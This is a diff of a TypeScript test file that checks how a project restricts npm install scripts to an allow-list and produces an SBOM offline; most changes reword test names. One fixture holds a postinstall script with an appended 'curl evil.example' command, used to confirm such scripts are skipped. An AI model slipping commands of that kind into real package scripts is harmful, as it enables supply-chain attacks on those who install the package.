@@ -19,12 +19,12 @@ const locked = Object.entries(readJson<{ packages: Record<string, Locked> }>('pa
   .map(([path, one]) => ({ ...one, name: path.slice(path.lastIndexOf('node_modules/') + 13), path }));
 const named = readJson<Record<string, string>>('scripts/install-scripts.json');
 
-describe('the install scripts', () => {
+describe('install scripts', () => {
   let modules: string;
   beforeEach(() => (modules = mkdtempSync(join(tmpdir(), 'modules-'))));
   afterEach(() => rmSync(modules, { recursive: true }));
 
-  it('[O6] of the lock file are named, each with its version, and no others', () => {
+  it('[O6] match the list exactly by name and version', () => {
     const having = locked.filter(({ hasInstallScript }) => hasInstallScript);
     expect(having.every(({ name, path }) => path === `node_modules/${name}`)).to.equal(true);
     expect(Object.keys(named).sort()).to.deep.equal(
@@ -32,7 +32,7 @@ describe('the install scripts', () => {
     );
   });
 
-  it('[O6] are run by neither way to install but by name', () => {
+  it('[O6] run only by name in both ways to install', () => {
     for (const file of ['scripts/install', 'Dockerfile']) {
       const installs = readFileSync(root + file, 'utf8').match(/npm (?:ci|i|install|rebuild)\b.*/g) ?? [];
       expect(installs, file).to.have.length(1);
@@ -40,7 +40,7 @@ describe('the install scripts', () => {
     }
   });
 
-  /** The package as it is installed, and whether its script was run. */
+  /** Installs a package with these scripts and returns true if its script ran. */
   const isRun = (version: string, scripts: object) => {
     const folder = join(modules, 'esbuild');
     mkdirSync(folder, { recursive: true });
@@ -63,11 +63,12 @@ describe('the install scripts', () => {
     ['another script', version, { postinstall: 'node install.js && curl evil.example' }, false],
     ['a script more', version, { ...usual, preinstall: 'node other.js' }, false],
   ] as const)
-    it(`are ${expected ? '' : 'not '}run of ${what}`, () => expect(isRun(given, scripts)).to.equal(expected));
+    it(`${expected ? 'runs' : 'skips'} install scripts of ${what}`, () =>
+      expect(isRun(given, scripts)).to.equal(expected));
 });
 
 describe('npm run sbom', () => {
-  it('[O6] lists, offline, every package that the program stands on, by its version, and none of the tests', () => {
+  it('[O6] lists every runtime package by version offline and no test package', () => {
     const env = { ...process.env, npm_config_offline: 'true', npm_config_registry: 'http://127.0.0.1:1/' };
     const { status, stdout, stderr } = spawnSync('npm', ['run', '--silent', 'sbom'], {
       cwd: root,
